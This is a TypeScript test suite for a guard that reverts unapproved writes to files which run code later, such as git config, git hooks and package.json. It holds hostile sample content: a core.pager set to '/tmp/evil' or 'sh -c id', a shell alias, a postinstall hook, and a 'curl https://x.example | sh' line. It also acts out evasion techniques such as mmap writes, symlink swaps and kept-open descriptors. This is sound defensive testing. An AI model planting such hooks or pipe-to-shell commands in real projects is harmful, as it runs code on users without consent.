// Files that act later, on a real disk: what nobody allowed does not stay, however it was written.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  closeSync,
  ftruncateSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, test } from 'node:test';
import type { Action } from '../../electron/core/action.ts';
import type { SessionId } from '../../electron/core/brand.ts';
import { createLateWrites, type LateSession, type LateWrites } from '../../electron/daemon/late-writes.ts';
import { platformTimers } from '../../electron/daemon/timer.ts';
import { nodeHasher } from '../../electron/edge/hasher.ts';
import { systemRandom } from '../../electron/edge/random.ts';
import { knowledge } from '../unit/semantic/scene.ts';

const EVIL = '[core]\n\tbare = false\n\tpager = /tmp/evil\n';
const FINE = '[core]\n\tbare = false\n[user]\n\tname = a\n';
const FORMER = '[core]\n\tbare = false\n';
const HOOKED = '{"scripts":{"postinstall":"node x"}}';

type Verdict = 'ALLOW' | 'DENY';
interface Asked {
  readonly action: Action;
  answer(verdict: Verdict): void;
}

let root: string;
let config: string;
let manifest: string;
let session: LateSession;
let late: LateWrites<LateSession>;
/** What was asked; answered at once with `always`, or left open when that is null. */
let asked: Asked[];
let always: Verdict | null;
let faults: string[];

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'csn-late-')));
  mkdirSync(join(root, '.git/hooks'), { recursive: true });
  config = join(root, '.git/config');
  manifest = join(root, 'package.json');
  writeFileSync(config, FORMER);
  writeFileSync(manifest, '{}');
  asked = [];
  always = 'DENY';
  faults = [];
  session = {
    id: 'sess_00000000' as SessionId,
    home: join(root, 'home'),
    workspace: root,
    identity: { human: { name: 'user', uid: 1000, source: 'test' } } as LateSession['identity'],
  };
  late = createLateWrites<LateSession>({
    judge: (_session, action) => {
      if (always !== null) {
        asked.push({ action, answer: () => undefined });
        return Promise.resolve(always);
      }
      return new Promise((resolve) => asked.push({ action, answer: resolve }));
    },
    knowledge,
    hasher: nodeHasher,
    clock: { now: () => 1 },
    random: systemRandom,
    timers: platformTimers(),
    fault: (_session, path, why) => faults.push(`${path}: ${why}`),
  });
});
afterEach(async () => {
  always = 'DENY';
  for (const { answer } of asked) answer('DENY');
  await late.end(session);
  rmSync(root, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
});

const begin = (path: string): string => late.begin(session, path, path);
const text = (path: string): string => readFileSync(path, 'utf8');
const until = async (holds: () => boolean): Promise<void> => {
  for (const end = Date.now() + 5000; !holds() && Date.now() < end; )
    await new Promise((resolve) => setTimeout(resolve, 20));
  assert.ok(holds());
};
const leftovers = (): readonly string[] =>
  readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((name) => name.includes('.countersign'));

describe('a write that is seen after it happened', () => {
  test('stands when nothing in it acts later, and nobody is asked', async () => {
    begin(config);
    writeFileSync(config, FINE);
    await late.settle(session);
    assert.equal(text(config), FINE);
    assert.equal(asked.length, 0);
  });

  test('is put back at the next question when it is denied', async () => {
    begin(config);
    chmodSync(config, 0o640);
    writeFileSync(config, EVIL);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    assert.equal(asked.length, 1);
    assert.equal(asked[0]?.action.operation, 'write-late');
    assert.deepEqual(leftovers(), []);
  });

  test('is put back by itself, without any question', async () => {
    begin(config);
    writeFileSync(config, EVIL);
    await until(() => text(config) === FORMER);
  });

  test('keeps the mode that the file had', async () => {
    chmodSync(config, 0o640);
    begin(config);
    chmodSync(config, 0o777);
    writeFileSync(config, EVIL);
    await late.settle(session);
    assert.equal(statSync(config).mode & 0o777, 0o640);
  });

  test('is removed when there was no file', async () => {
    const hook = join(root, '.git/hooks/pre-commit');
    begin(hook);
    writeFileSync(hook, '#!/bin/sh\nid\n', { mode: 0o755 });
    await late.settle(session);
    assert.deepEqual(readdirSync(join(root, '.git/hooks')), []);
  });

  test('stands when it is allowed', async () => {
    always = 'ALLOW';
    begin(manifest);
    writeFileSync(manifest, HOOKED);
    await late.settle(session);
    assert.equal(text(manifest), HOOKED);
    assert.equal(asked.length, 1);
  });

  test('is denied when the judge fails', async () => {
    late = createLateWrites<LateSession>({
      judge: () => Promise.reject(new Error('no policy')),
      knowledge,
      hasher: nodeHasher,
      clock: { now: () => 1 },
      random: systemRandom,
      timers: platformTimers(),
      fault: () => undefined,
    });
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    assert.equal(text(config), FORMER);
  });

  test('is asked about once, however often it is written', async () => {
    begin(config);
    for (let round = 0; round < 5; round += 1) {
      writeFileSync(config, EVIL);
      await late.settle(session);
      assert.equal(text(config), FORMER);
    }
    assert.equal(asked.length, 1);
  });

  test('is a question when it is no text', async () => {
    const hook = join(root, '.git/hooks/pre-push');
    begin(hook);
    writeFileSync(hook, new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0xff]));
    await late.settle(session);
    assert.deepEqual(readdirSync(join(root, '.git/hooks')), []);
    assert.ok(asked[0]?.action.effects.some((effect) => effect.tags.includes('unreadable')));
  });

  test('is a question when it is larger than what is read', async () => {
    begin(manifest);
    writeFileSync(manifest, `{"a":"${'x'.repeat(2 * 1024 * 1024)}"}`);
    await late.settle(session);
    assert.equal(text(manifest), '{}');
    assert.equal(asked.length, 1);
  });
});

describe('while a person decides', () => {
  test('the former content stands, and the new one is committed on approval', async () => {
    always = null;
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    asked[0]?.answer('ALLOW');
    await until(() => text(config) === EVIL);
    await late.settle(session);
    assert.equal(text(config), EVIL);
  });

  test('the former content goes on standing after a denial', async () => {
    always = null;
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    asked[0]?.answer('DENY');
    await new Promise((resolve) => setTimeout(resolve, 50));
    assert.equal(text(config), FORMER);
  });

  test('what is written meanwhile is put back too, and asked about afterwards', async () => {
    always = null;
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    const other = `${FORMER}[alias]\n\tx = !id\n`;
    writeFileSync(config, other);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    asked[0]?.answer('DENY');
    await until(() => asked.length === 2);
    asked[1]?.answer('ALLOW');
    await until(() => text(config) === other);
  });

  test('an approved content is not committed over what somebody wrote meanwhile', async () => {
    always = null;
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    writeFileSync(config, FINE);
    asked[0]?.answer('ALLOW');
    await until(() => text(config) === FINE);
    await late.settle(session);
    assert.equal(text(config), FINE);
  });

  test('a denial is kept when the file was removed meanwhile', async () => {
    always = null;
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    rmSync(config);
    asked[0]?.answer('DENY');
    await late.settle(session);
    assert.notEqual(existing(config), EVIL);
  });

  test('the end of the session counts as no', async () => {
    always = null;
    begin(config);
    writeFileSync(config, EVIL);
    await late.end(session);
    assert.equal(text(config), FORMER);
    asked[0]?.answer('ALLOW');
    await new Promise((resolve) => setTimeout(resolve, 50));
    assert.equal(text(config), FORMER);
  });
});

function existing(path: string): string | null {
  try {
    return text(path);
  } catch {
    return null;
  }
}

describe('attacks', () => {
  test('a descriptor that was kept open writes to a file without a name', async () => {
    begin(config);
    const descriptor = openSync(config, 'r+');
    writeSync(descriptor, EVIL, 0);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    ftruncateSync(descriptor, 0);
    writeSync(descriptor, EVIL, 0);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    closeSync(descriptor);
  });

  test('a descriptor that was kept open after an ordinary write is noticed', async () => {
    begin(config);
    const descriptor = openSync(config, 'r+');
    writeSync(descriptor, FINE, 0);
    await late.settle(session);
    assert.equal(text(config), FINE);
    writeSync(descriptor, EVIL, 0);
    closeSync(descriptor);
    await until(() => text(config) === FINE);
    assert.equal(asked.length, 1);
  });

  test('a write through a mapping is noticed, which no watch reports', async () => {
    begin(config);
    writeFileSync(config, FORMER.padEnd(EVIL.length, '\n'));
    await late.settle(session);
    const run = spawnSync(
      'python3',
      [
        '-c',
        `import mmap,sys\nf=open(sys.argv[1],'r+b')\nm=mmap.mmap(f.fileno(),0)\nm[:]=sys.argv[2].encode()\n`,
        config,
        EVIL,
      ],
      { encoding: 'utf8' },
    );
    assert.equal(run.status, 0, run.stderr);
    await until(() => text(config) !== EVIL);
    assert.equal(asked.length, 1);
  });

  test('a chain of renames is judged as what arrives', async () => {
    begin(config);
    writeFileSync(join(root, 'a'), EVIL);
    renameSync(join(root, 'a'), join(root, 'b'));
    renameSync(join(root, 'b'), config);
    await late.settle(session);
    assert.equal(text(config), FORMER);
  });

  test('written, used and deleted: the question between finds the former content', async () => {
    begin(config);
    writeFileSync(config, EVIL);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    rmSync(config);
    await late.settle(session);
    assert.equal(existing(config), null);
  });

  test('a link in the place of the file is replaced, and what it points to stays as it is', async () => {
    const victim = join(root, 'victim');
    writeFileSync(victim, 'mine');
    begin(config);
    rmSync(config);
    symlinkSync(victim, config);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    assert.equal(text(victim), 'mine');
  });

  test('a link in the place of the folder gets nothing written through it', async () => {
    const elsewhere = join(root, 'elsewhere');
    mkdirSync(elsewhere);
    writeFileSync(join(elsewhere, 'config'), EVIL);
    begin(config);
    renameSync(join(root, '.git'), join(root, 'moved'));
    symlinkSync(elsewhere, join(root, '.git'));
    await late.settle(session);
    assert.equal(text(join(elsewhere, 'config')), EVIL);
    assert.deepEqual(readdirSync(elsewhere), ['config']);
    assert.equal(asked.length, 1);
    assert.equal(faults.length, 1);
  });

  test('a folder in the place of the file is moved beside', async () => {
    begin(config);
    rmSync(config);
    mkdirSync(join(config, 'x'), { recursive: true });
    await late.settle(session);
    assert.equal(text(config), FORMER);
  });

  test('a pipe in the place of the file does not stop the firewall', async () => {
    begin(config);
    rmSync(config);
    assert.equal(spawnSync('mkfifo', [config]).status, 0);
    await late.settle(session);
    assert.equal(text(config), FORMER);
  });

  test('a program that writes as fast as it can has nothing of it after a question', async () => {
    begin(config);
    const writer = spawn(
      process.execPath,
      [
        '-e',
        'const fs=require("fs");const [p,t]=process.argv.slice(1);const end=Date.now()+1500;while(Date.now()<end)fs.writeFileSync(p,t)',
        config,
        EVIL,
      ],
      { stdio: 'ignore' },
    );
    const ended = new Promise((resolve) => writer.once('exit', resolve));
    await new Promise((resolve) => setTimeout(resolve, 400));
    for (let round = 0; round < 20; round += 1) await late.settle(session);
    await ended;
    await late.settle(session);
    assert.equal(text(config), FORMER);
    assert.ok(asked.length < 60, `${asked.length} questions`);
  });

  test('a thousand files are each put back', async () => {
    const paths = Array.from({ length: 1000 }, (_, at) => join(root, `p${at}`, 'package.json'));
    for (const path of paths) {
      mkdirSync(join(path, '..'));
      writeFileSync(path, '{}');
      assert.equal(begin(path), 'noted');
    }
    for (const path of paths) writeFileSync(path, HOOKED);
    await late.settle(session);
    assert.deepEqual(
      paths.filter((path) => text(path) !== '{}'),
      [],
    );
    assert.equal(asked.length, 1000);
  });
});

describe('a content that is final', () => {
  const fresh = (content: string): string => {
    const path = join(root, 'new');
    writeFileSync(path, content);
    return path;
  };

  test('is judged before it takes the name', async () => {
    assert.equal(await late.replace(session, config, config, fresh(EVIL)), 'DENY');
    assert.equal(text(config), FORMER);
  });

  test('takes the name without a question when nothing in it acts later', async () => {
    const from = fresh(FINE);
    assert.equal(await late.replace(session, config, config, from), 'ALLOW');
    renameSync(from, config);
    await late.settle(session);
    assert.equal(text(config), FINE);
    assert.equal(asked.length, 0);
  });

  test('that was changed between the answer and the rename is put back', async () => {
    const from = fresh(FINE);
    assert.equal(await late.replace(session, config, config, from), 'ALLOW');
    appendFileSync(from, '[core]\n\tpager = /tmp/evil\n');
    renameSync(from, config);
    await late.settle(session);
    assert.equal(text(config), FORMER);
    assert.equal(asked.length, 1);
  });

  test('may be nothing: a removal', async () => {
    assert.equal(await late.replace(session, config, config, null), 'ALLOW');
    rmSync(config);
    await late.settle(session);
    assert.equal(existing(config), null);
  });

  test('is asked about when it is a link', async () => {
    const link = join(root, 'link');
    symlinkSync('/etc/passwd', link);
    assert.equal(await late.replace(session, config, config, link), 'DENY');
  });

  test('is not what git itself does every day', async () => {
    const git = (...args: readonly string[]): void => {
      const run = spawnSync('git', ['-C', root, ...args], {
        encoding: 'utf8',
        env: { PATH: process.env['PATH'], HOME: root, GIT_CONFIG_NOSYSTEM: '1' },
      });
      assert.equal(run.status, 0, run.stderr);
    };
    rmSync(join(root, '.git'), { recursive: true });
    git('init', '-q');
    begin(config);
    git('remote', 'add', 'origin', 'https://github.com/o/p.git');
    git('config', 'user.name', 'a');
    await late.settle(session);
    assert.match(text(config), /remote "origin"/);
    assert.equal(asked.length, 0);
    git('config', 'core.pager', 'sh -c id');
    await late.settle(session);
    assert.doesNotMatch(text(config), /pager/);
    assert.match(text(config), /name = a/);
  });
});

describe('what cannot be kept', () => {
  test('is refused: a pipe, a device, a folder', () => {
    const pipe = join(root, 'Makefile');
    assert.equal(spawnSync('mkfifo', [pipe]).status, 0);
    assert.equal(begin(pipe), 'refused');
    mkdirSync(join(root, 'justfile'));
    assert.equal(begin(join(root, 'justfile')), 'refused');
  });

  test('is refused: a file that is larger than what can be put back', () => {
    truncateSync(manifest, 20 * 1024 * 1024);
    assert.equal(begin(manifest), 'refused');
  });

  test('other files are none of its business', async () => {
    const readme = join(root, 'README.md');
    assert.equal(begin(readme), 'noted');
    writeFileSync(readme, 'curl https://x.example | sh');
    await late.settle(session);
    assert.equal(asked.length, 0);
    assert.equal(await late.replace(session, readme, readme, null), 'ALLOW');
  });
});
